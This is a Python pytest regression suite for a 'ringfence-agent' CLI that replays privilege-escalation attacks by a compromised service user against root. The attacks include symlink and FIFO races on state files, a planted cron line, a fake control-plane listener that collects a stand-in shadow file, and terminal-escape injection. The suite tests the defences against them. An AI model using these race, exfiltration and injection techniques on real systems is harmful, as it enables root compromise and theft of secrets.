"""``ringfence-agent`` run as root on the state directory of the agent the unit runs as its own
user (a uid no account has stands in: tests/systemdunit.py), that user compromised (security
review r14): it plants links, FIFOs and files in its directory for root's command to follow. Root
does no file work there: the command runs again as a child, as the directory's owner, as the unit
starts the agent (agent/ringfence_agent/asowner.py), so whatever it follows it follows with that
user's rights. Real CLI as root, subprocesses; the dry-run backend (the kernel is beside the
point); the victims are dummy root files under pytest's tmp_path; the one daemon that talks to a
"control plane" runs in a throwaway network namespace."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agent.bundles import GOLDEN, PUBLIC_KEY, static_agent_config
from tests.agentproc import BIN
from tests.systemdunit import STAND_IN_GID, STAND_IN_UID, reachable_dir

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None, reason="needs root (the operator) and setpriv"
)

USER = (STAND_IN_UID, STAND_IN_GID)  # the agent's user, compromised
AGENT = str(BIN / "ringfence-agent")
BUNDLE = GOLDEN / "bundle-ord-prod-proc-1.json"
DELTA = GOLDEN / "delta-ord-prod-proc-1-scale-out.json"
SECRET = "root:SECRETHASH:19000:0:99999:7:::\n"


@pytest.fixture
def scratch() -> Iterator[Path]:
    with reachable_dir("rf-asowner-") as made:
        yield made


@pytest.fixture
def state(scratch: Path) -> Path:
    """As systemd makes StateDirectory= for User=: the user's, 0700."""
    made = scratch / "state"
    made.mkdir(mode=0o700)
    os.chown(made, *USER)
    return made


def _victim(where: Path, name: str = "shadow", text: str = SECRET) -> Path:
    """A root file of root's only (a stand-in for /etc/shadow)."""
    where.mkdir(parents=True, exist_ok=True)
    path = where / name
    path.write_text(text)
    path.chmod(0o600)
    return path


def _plant_link(link: Path, target: Path) -> None:
    """What the agent's user can do in its own directory: a symlink of its own."""
    link.symlink_to(target)
    os.lchown(link, *USER)


def _plant(path: Path, text: str) -> None:
    path.write_text(text)
    os.chown(path, *USER)


def _root(*args: str, timeout: float = 60, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The operator's command, as root."""
    return subprocess.run([AGENT, *args], capture_output=True, text=True, timeout=timeout, env=env)


def _apply(state: Path, bundle: Path = BUNDLE, key: Path = PUBLIC_KEY) -> subprocess.CompletedProcess[str]:
    return _root(
        "apply", "--backend", "dry-run", "--state-dir", str(state), "--public-key", str(key), "--bundle", str(bundle)
    )


def _unchanged(victim: Path) -> None:
    st = victim.lstat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, 0, 0o600), victim
    assert victim.read_text() == SECRET


def _not_the_owners(state: Path) -> list[str]:
    return [
        f"{p} {p.lstat().st_uid}:{p.lstat().st_gid}"
        for p in [state, *state.rglob("*")]
        if (p.lstat().st_uid, p.lstat().st_gid) != USER
    ]


def test_attack_a_planted_lock_link_does_not_give_root_files_to_the_agents_user(state: Path, tmp_path: Path) -> None:
    """F1: ``.lock`` a link to a root file: root's apply chowned it to the agent's user (and made
    the target of a dangling link, the user's)."""
    victim = _victim(tmp_path / "victim")
    _plant_link(state / ".lock", victim)
    out = _apply(state)
    assert out.returncode == 0, out.stderr  # the lock falls back to the directory itself
    _unchanged(victim)

    (state / ".lock").unlink()
    dangling = tmp_path / "victim" / "new-cron"
    _plant_link(state / ".lock", dangling)
    _apply(state)
    assert not dangling.exists()


def test_attack_a_planted_rejected_link_does_not_move_the_agents_files_into_a_root_directory(
    state: Path, tmp_path: Path
) -> None:
    """F3: a corrupt ``bundle.json`` and ``rejected`` a link to a root directory (``/etc/cron.d``):
    root's apply set the attacker's file aside into it."""
    cron = tmp_path / "etc-cron.d"
    cron.mkdir(mode=0o755)
    _plant(state / "bundle.json", "* * * * * root id > /tmp/pwned\n")
    _plant_link(state / "rejected", cron)
    _apply(state)
    assert list(cron.iterdir()) == []


def test_attack_a_journal_link_does_not_let_root_write_a_root_file(state: Path, tmp_path: Path) -> None:
    """F5: ``deltas.jsonl`` swapped for a link to a root file between root's apply-delta reading
    the journal and appending to it: the target was truncated to the journal's length and
    written. The race won every time: the delta comes through a FIFO, and the journal is swapped
    once root's command has opened it (after reading the journal, before the append)."""
    assert _apply(state).returncode == 0
    victim = _victim(tmp_path / "victim")
    fifo = tmp_path / "delta.fifo"
    os.mkfifo(fifo, 0o600)
    journal = state / "deltas.jsonl"
    args = ["--backend", "dry-run", "--state-dir", str(state), "--public-key", str(PUBLIC_KEY), "--delta", str(fifo)]
    proc = subprocess.Popen([AGENT, "apply-delta", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        with fifo.open("wb") as w:  # returns once root's command opened it
            journal.rename(state / "deltas.jsonl.moved")
            _plant_link(journal, victim)
            w.write(DELTA.read_bytes())
        proc.communicate(timeout=60)
    finally:
        proc.kill()
    _unchanged(victim)


@pytest.mark.slow
def test_attack_root_never_runs_on_a_last_good_config_the_agents_user_wrote(scratch: Path, tmp_path: Path) -> None:
    """F6: root's ``run`` with a config that does not load fell back to ``config.last-good.json``
    in the agent's directory: the attacker's settings, run as root: pairing_key_file a root file,
    api_url its listener, which got the file. Both ways: on the agent's directory (root becomes
    the agent's user, who cannot read the file), and a planted last good on a directory of
    root's (not loaded). In a throwaway network namespace, the listener in it."""
    victim = _victim(tmp_path / "victim")
    ns = f"rf-asowner-{os.getpid()}"
    subprocess.run(["ip", "netns", "add", ns], check=True)
    listener = None
    try:
        subprocess.run(["ip", "netns", "exec", ns, "ip", "link", "set", "lo", "up"], check=True)
        seen = scratch / "listener.out"
        listener = subprocess.Popen(
            ["ip", "netns", "exec", ns, sys.executable, "-c", LISTENER, "8099", str(seen)], stderr=subprocess.PIPE
        )
        for owner in (USER, (0, 0)):
            state = scratch / f"state-{owner[0]}"
            state.mkdir(mode=0o700)
            os.chown(state, *owner)
            doc = {
                "from": "/etc/ringfence/agent.json",
                "config": {
                    "workload_id": "ord-prod-proc-1",
                    "public_key": str(PUBLIC_KEY),
                    "state_dir": str(state),
                    "backend": "dry-run",
                    "api_url": "http://127.0.0.1:8099",
                    "enroll": {"method": "pairing", "pairing_key_file": str(victim)},
                },
            }
            _plant(state / "config.last-good.json", json.dumps(doc))
            broken = scratch / "agent.json"
            broken.write_text("{ broken")
            run = [AGENT, "run", "--config", str(broken), "--state-dir", str(state), "--backend", "dry-run"]
            proc = subprocess.Popen(["ip", "netns", "exec", ns, *run], stderr=subprocess.PIPE, text=True)
            time.sleep(6)
            proc.terminate()
            _, err = proc.communicate(timeout=30)
            if owner == (0, 0):
                assert "not loaded" in err and "owned by uid" in err, err
            got = seen.read_text() if seen.exists() else ""
            assert "SECRETHASH" not in got, got
            _unchanged(victim)
    finally:
        if listener is not None:
            listener.terminate()
            listener.wait(timeout=10)
        subprocess.run(["ip", "netns", "del", ns], check=False)


# the attacker's "control plane": answers a nonce, keeps every request it gets
LISTENER = """
import http.server, json, sys
class H(http.server.BaseHTTPRequestHandler):
    def _reply(self, doc):
        b = json.dumps(doc).encode(); self.send_response(200)
        self.send_header("Content-Type", "application/json"); self.send_header("Content-Length", str(len(b)))
        self.end_headers(); self.wfile.write(b)
    def _keep(self, body):
        with open(sys.argv[2], "a") as f:
            f.write(self.command + " " + self.path + " " + body + "\\n")
    def do_GET(self):
        self._keep(""); self._reply({"nonce": "n" * 32})
    def do_POST(self):
        self._keep(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode(errors="replace"))
        self._reply({})
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""


def test_attack_a_fifo_or_dev_zero_in_the_state_directory_does_not_hang_roots_commands(
    scratch: Path, state: Path
) -> None:
    """F7: ``agent-key.pem`` a FIFO (status hung for good) or a link to /dev/zero (status read
    until memory ran out); ``config.last-good.json`` a FIFO (``run --once`` hung)."""
    os.mkfifo(state / "agent-key.pem")
    os.chown(state / "agent-key.pem", *USER)
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state), "--json", timeout=30)
    assert out.returncode == 0 and "unreadable" in json.loads(out.stdout)["agent_key"], out.stderr
    (state / "agent-key.pem").unlink()
    _plant_link(state / "agent-key.pem", Path("/dev/zero"))
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state), "--json", timeout=30)
    assert out.returncode == 0 and "unreadable" in json.loads(out.stdout)["agent_key"], out.stderr

    os.mkfifo(state / "config.last-good.json")
    os.chown(state / "config.last-good.json", *USER)
    config = _static_config(scratch, state)
    out = _root("run", "--once", "--config", str(config), timeout=30)
    assert "Traceback" not in out.stderr, out.stderr
    assert (state / "config.last-good.json").is_file()  # replaced by the last good configuration


def test_attack_terminal_escapes_in_status_json_do_not_reach_roots_terminal(state: Path) -> None:
    """F8: ``status`` (text) printed status.json's strings raw: a title-setting OSC, a screen
    clear, hidden text, planted by the agent's user, reached root's terminal."""
    doc = {"last_error": "\x1b]0;owned-title\x07\x1b[2J\x1b[Hall good, nothing to see", "last_cut": "x\x9bq\u202e"}
    _plant(state / "status.json", json.dumps(doc))
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state))
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "\x9b" not in out.stdout, out.stdout
    assert "\u202e" not in out.stdout
    assert "last_error: \\x1b]0;owned-title\\x07\\x1b[2J\\x1b[Hall good" in out.stdout, out.stdout


def test_a_config_only_root_may_read_is_passed_open_and_keeps_its_name(scratch: Path, state: Path) -> None:
    """``run --config`` of root's 0600: the owner may not open it, root passes it open; it keeps
    its own name (the last good configuration says where it came from) and its directory."""
    # state_dir relative to the file's directory, not /dev/fd
    config = static_agent_config(scratch / "agent.json", "state", mode=0o600)
    out = _root("run", "--once", "--config", str(config))
    assert f"skuid {STAND_IN_UID}" in out.stdout, out.stdout + out.stderr
    kept = json.loads((state / "config.last-good.json").read_text())
    assert kept["from"] == str(config) and kept["config"]["state_dir"] == str(state), kept
    assert _not_the_owners(state) == []


def test_a_bundle_only_root_may_read_applies_passed_open(state: Path, tmp_path: Path) -> None:
    """The bundle and the pinned key root's 0600 in a 0700 directory: the agent's user may not
    open them, root passes them open (/dev/fd/N) and the owner reads them from the descriptor."""
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    bundle, key = private / "bundle.json", private / "key.pem"
    shutil.copy(BUNDLE, bundle)
    shutil.copy(PUBLIC_KEY, key)
    bundle.chmod(0o600)
    key.chmod(0o600)
    out = _apply(state, bundle, key)
    assert out.returncode == 0, out.stderr
    assert (state / "bundle.json").stat().st_uid == STAND_IN_UID
    assert json.loads((state / "bundle.json").read_text())["version"] == 1


def test_without_setpriv_root_refuses_and_writes_nothing(state: Path, tmp_path: Path) -> None:
    """No setpriv to become the owner: refused, naming the directory and its owner; never done as
    root (nothing written)."""
    bare = tmp_path / "bin"
    bare.mkdir()
    env = {**os.environ, "PATH": str(bare)}
    out = _root(
        "apply", "--backend", "dry-run", "--state-dir", str(state), "--public-key", str(PUBLIC_KEY),
        "--bundle", str(BUNDLE), env=env,
    )  # fmt: skip
    assert out.returncode == 1, out.stdout + out.stderr
    assert f"the state directory {state} is owned by {STAND_IN_UID}:{STAND_IN_GID}" in out.stderr, out.stderr
    assert "setpriv" in out.stderr
    assert list(state.iterdir()) == []


def test_a_symlinked_state_directory_is_refused_as_root(scratch: Path, state: Path) -> None:
    """Whose directory a link names is not the link's owner's to say: refused, nothing written."""
    link = scratch / "link"
    _plant_link(link, state)
    out = _apply(link)
    assert out.returncode == 1 and "is a symbolic link" in out.stderr, out.stderr
    assert list(state.iterdir()) == []


# security review r15: root's command no longer executes itself in place as the owner; the owner's
# process is a child of root's, given nothing of root's but the inputs it needs


def _static_config(scratch: Path, state: Path, name: str = "agent.json") -> Path:
    """A config the owner may read: a static source that is not there yet (the daemon waits)."""
    return static_agent_config(scratch / name, str(state))


def _owners_process(marker: str, timeout: float = 30) -> int:
    """The pid of the owner's ringfence-agent whose command line holds ``marker``: the one setpriv
    started (no new privileges), not root's forked ``can_read`` probe, which becomes the owner
    with root's command line for a moment and exits (CI picked that one under load)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != STAND_IN_UID:
                    continue
                argv = Path(f"/proc/{p}/cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            mine = b"setpriv" not in argv[0] and marker.encode() in argv and any(b"ringfence" in a for a in argv)
            if mine and _no_new_privs(int(p)):
                return int(p)
        time.sleep(0.05)
    raise AssertionError(f"no process of uid {STAND_IN_UID} running {marker}")


def _no_new_privs(pid: int) -> bool:
    try:
        return "NoNewPrivs:\t1" in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


def _stat_fields(pid: int) -> list[str]:
    """/proc/PID/stat from the state field on (comm may hold spaces): [state, ppid, pgrp, session, tty_nr, …]."""
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()


def test_attack_the_owners_process_gets_no_root_descriptor_environment_or_terminal(
    scratch: Path, state: Path, tmp_path: Path
) -> None:
    """r15 F1, F2: root's command, executed again in place as the owner, kept root's controlling
    terminal (the owner ptraced it and pushed a command into root's shell with TIOCSTI), root's
    stdin/stdout/stderr and every other descriptor root had open (taken with pidfd_getfd), and
    root's environment (read from /proc/PID/environ). Root here holds a pty as its controlling
    terminal and stdin, a root-only file open on an extra descriptor and a secret in its
    environment; while the owner's daemon runs, none of it is in the owner's process: no
    controlling terminal, a session of its own, stdin /dev/null."""
    victim = _victim(tmp_path / "victim")
    config = _static_config(scratch, state)
    master, slave = os.openpty()
    held = os.open(victim, os.O_RDWR)
    env = {**os.environ, "ROOT_SECRET": "hunter2-r15"}

    def _controlling_tty() -> None:
        import fcntl
        import termios

        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen(
        [AGENT, "run", "--config", str(config)],
        stdin=slave,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        pass_fds=(held,),
        start_new_session=True,
        preexec_fn=_controlling_tty,  # root's interactive shell: a terminal of its own
    )
    os.close(slave)
    os.close(held)
    try:
        pid = _owners_process(str(config))
        root_session = int(_stat_fields(proc.pid)[3])
        assert int(_stat_fields(proc.pid)[4]) != 0  # root's command has the terminal
        fields = _stat_fields(pid)
        assert int(fields[4]) == 0, f"the owner's process has root's controlling terminal (tty_nr {fields[4]})"
        assert int(fields[3]) != root_session
        links = {fd: os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
        assert links["0"] == "/dev/null", links
        assert str(victim) not in links.values(), links
        assert not any(link.startswith("/dev/pts/") or link == "/dev/ptmx" for link in links.values()), links
        environ = Path(f"/proc/{pid}/environ").read_bytes()
        assert b"hunter2-r15" not in environ
    finally:
        proc.terminate()
        proc.communicate(timeout=30)
        os.close(master)
    _unchanged(victim)


def test_attack_a_state_directory_not_there_yet_in_the_owners_directory_is_refused(
    scratch: Path, tmp_path: Path
) -> None:
    """r15 F3: ``--state-dir`` not there yet in a directory the agent's user may write: root went
    on as root, the user then put a link to a root directory at that name (here while root waits
    on the key from a FIFO: the race won every time), and root's apply wrote its files there.
    Refused before anything is read, naming the directory; also one straight in a sticky
    world-writable directory (``/tmp``), where anyone may make the name first."""
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o700)
    agentdir = scratch / "agentdir"
    agentdir.mkdir(mode=0o755)
    os.chown(agentdir, *USER)
    fifo = scratch / "key.fifo"
    os.mkfifo(fifo, 0o600)
    target = agentdir / "state"
    proc = subprocess.Popen(
        [AGENT, "apply", "--backend", "dry-run", "--state-dir", str(target), "--public-key", str(fifo),
         "--bundle", str(BUNDLE)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while proc.poll() is None and time.monotonic() < deadline:
            try:
                w = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # no reader yet
                time.sleep(0.05)
                continue
            _plant_link(target, victim)  # root decided; now the attacker's link
            os.write(w, PUBLIC_KEY.read_bytes())
            os.close(w)
            break
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert list(victim.iterdir()) == []
    assert proc.returncode == 1 and f"{agentdir} (owner uid {STAND_IN_UID}" in err, err

    sticky = scratch / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    out = _apply(sticky / "state")
    assert out.returncode == 1 and "writable by other users" in out.stderr, out.stderr
    assert not (sticky / "state").exists()


def test_root_under_sudo_works_in_the_sudo_users_own_checkout(scratch: Path) -> None:
    """``sudo make demo`` in a checkout in the user's home: the directories on the way are that
    user's, who ran sudo and is root already (``SUDO_UID``/``SUDO_GID``), so root may make and
    use a state directory there. The same directories are refused to root without sudo's word,
    and to a sudo of another user."""
    home = scratch / "home"
    home.mkdir(mode=0o775)  # a user private group's umask 002
    os.chown(home, *USER)
    target = home / "repo" / "out" / "state"
    args = ("apply", "--backend", "dry-run", "--state-dir", str(target), "--public-key", str(PUBLIC_KEY),
            "--bundle", str(BUNDLE))  # fmt: skip
    env = {k: v for k, v in os.environ.items() if not k.startswith("SUDO_")}
    refused = _root(*args, env=env)
    assert refused.returncode == 1 and f"{home} (owner uid {STAND_IN_UID}" in refused.stderr, refused.stderr
    other = _root(*args, env={**env, "SUDO_UID": str(STAND_IN_UID + 1), "SUDO_GID": str(STAND_IN_GID + 1)})
    assert other.returncode == 1 and not target.exists(), other.stderr
    sudo = _root(*args, env={**env, "SUDO_UID": str(STAND_IN_UID), "SUDO_GID": str(STAND_IN_GID)})
    assert sudo.returncode == 0, sudo.stderr
    assert target.stat().st_uid == 0 and (target / "bundle.json").is_file()


def test_attack_run_reads_a_piped_config_once_and_never_falls_back_to_the_owners_directory_as_root(
    scratch: Path, state: Path
) -> None:
    """r15 F4: ``run --config /dev/stdin`` (or ``<(…)``) naming a root state directory, with
    ``--state-dir`` the agent's: root read the pipe to decide (root's directory: stay root),
    cmd_run read it again, got nothing, and fell back to ``--state-dir``, the agent's directory,
    as root. Read once: the daemon runs on root's directory; the agent's is untouched."""
    rootstate = scratch / "rootstate"
    config = json.loads(_static_config(scratch, rootstate).read_text())
    r, w = os.pipe()
    os.write(w, json.dumps(config).encode())
    os.close(w)
    proc = subprocess.Popen(
        [AGENT, "run", "--config", "/dev/stdin", "--backend", "dry-run", "--state-dir", str(state)],
        stdin=r, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    os.close(r)
    try:
        deadline = time.monotonic() + 20
        while not (rootstate / "status.json").exists() and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.1)
        time.sleep(1)
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=30)
    assert list(state.iterdir()) == [], (list(state.iterdir()), err)
    assert (rootstate / "status.json").exists(), err


def test_attack_a_relative_state_directory_from_a_cwd_the_owner_cannot_enter_works(scratch: Path, state: Path) -> None:
    """r15 F5: root in a directory the owner may not enter (``/root``), ``--state-dir ../state``:
    the owner's process resolved it from root's cwd and died with a PermissionError traceback.
    Paths are made absolute first (the program's too: here named relative to root's cwd); the
    owner's process runs in /."""
    cwd = scratch / "rootcwd"
    cwd.mkdir(mode=0o700)
    out = subprocess.run(
        [os.path.relpath(AGENT, cwd), "status", "--backend", "dry-run", "--state-dir", "../state"],
        capture_output=True, text=True, timeout=60, cwd=cwd,
    )  # fmt: skip
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr
    assert "state_unreadable: None" in out.stdout, out.stdout


def test_the_owners_output_is_relayed_escaped_and_its_exit_status_is_roots(state: Path, tmp_path: Path) -> None:
    """What the owner's process prints reaches root's terminal with control characters escaped
    (line ends and tabs kept); root's command exits with its status."""
    bad = tmp_path / "bundle.json"
    bad.write_text("not json")
    out = _root(
        "apply", "--backend", "dry-run", "--state-dir", str(state), "--public-key", str(PUBLIC_KEY),
        "--bundle", str(bad), "--workload-id", "w\x1b]0;owned\x07\x9b2J",
    )  # fmt: skip
    assert out.returncode == 1, out.stdout + out.stderr
    assert out.stderr.startswith("ringfence-agent: ") and out.stderr.endswith("\n"), out.stderr
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state), "--json")
    assert out.returncode == 0 and json.loads(out.stdout)["workload_id"] is None, out.stderr
    from ringfence_agent.asowner import _relay

    r, w = os.pipe()
    os.write(w, "a\tb \x1b[2J\x07 \u009b \x7f\r\nline2\n".encode() + b"\x9b\n")
    os.close(w)
    import io

    got = io.StringIO()
    _relay(os.fdopen(r, "rb"), got)
    assert got.getvalue() == "a\tb \\x1b[2J\\x07 \\x9b \\x7f\\r\nline2\n\\x9b\n", got.getvalue()


def test_state_dir_refuses_root_in_another_users_directory(state: Path, scratch: Path) -> None:
    """The last guard: whatever path led there, root's StateDir does no work in a directory
    another uid owns, nor through a link."""
    from ringfence_agent.state import RootRefused, StateDir

    with pytest.raises(RootRefused, match=f"owned by uid {STAND_IN_UID}"):
        StateDir(state).ensure()
    link = scratch / "link"
    link.symlink_to(state)
    with pytest.raises(RootRefused, match="symbolic link"):
        StateDir(link).lock()
    assert list(state.iterdir()) == []


def _signals_as_from_a_terminal() -> None:
    """Root's command starts with the default signal dispositions, as typed at a terminal: a
    runner under ``nohup`` (or a shell's background job) ignores SIGHUP (SIGINT), and an ignored
    disposition is inherited across exec by the owner's daemon, which then outlives a forwarded
    SIGHUP as the daemon itself would under nohup."""
    for sig in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, signal.SIG_DFL)


def _owners_daemon(config: Path, state: Path) -> tuple[subprocess.Popen[str], int]:
    """Root's ``run`` and the pid of the owner's daemon, once it holds its posture (its signal
    handlers are in place by then)."""
    proc = subprocess.Popen(
        [AGENT, "run", "--config", str(config)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=_signals_as_from_a_terminal,
    )
    pid = _owners_process(str(config))
    deadline = time.monotonic() + 30
    while not ((state / "status.json").exists() and _forwarding(proc.pid)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return proc, pid


def _forwarding(pid: int) -> bool:
    """Root's process catches the signals it forwards (its handlers are in place)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("SigCgt:"):
            caught = int(line.split()[1], 16)
            return all(caught >> (sig - 1) & 1 for sig in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM))
    return False


@pytest.mark.parametrize(
    ("sig", "status"), [(signal.SIGTERM, 0), (signal.SIGINT, 0), (signal.SIGHUP, 128 + signal.SIGHUP)]
)
def test_roots_signal_reaches_the_owners_daemon_and_its_exit_status_is_roots(
    scratch: Path, state: Path, sig: signal.Signals, status: int
) -> None:
    """The owner's daemon runs in a session of its own, so a ctrl-c or a service manager's
    SIGTERM reaches root's process only: root forwards it and exits as the daemon did (a clean
    stop on SIGTERM and SIGINT, killed by SIGHUP, which it does not handle)."""
    proc, pid = _owners_daemon(_static_config(scratch, state), state)
    try:
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=30)
    finally:
        proc.kill()
        outlived = Path(f"/proc/{pid}").exists()
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)  # no daemon outlives the test
    assert not outlived, "the owner's daemon outlived root's command"
    assert proc.returncode == status, (proc.returncode, err)
    if status == 0:
        assert "stopped; the firewall keeps enforcing" in err, err


def test_an_owners_daemon_killed_by_a_signal_is_128_plus_n_for_root(scratch: Path, state: Path) -> None:
    """Killed outright (SIGKILL, the OOM killer), the owner's daemon's death is root's exit
    status the way a shell reports it: 128 + the signal's number."""
    proc, pid = _owners_daemon(_static_config(scratch, state), state)
    try:
        os.kill(pid, signal.SIGKILL)
        _, err = proc.communicate(timeout=30)
    finally:
        proc.kill()
    assert proc.returncode == 128 + signal.SIGKILL, (proc.returncode, err)
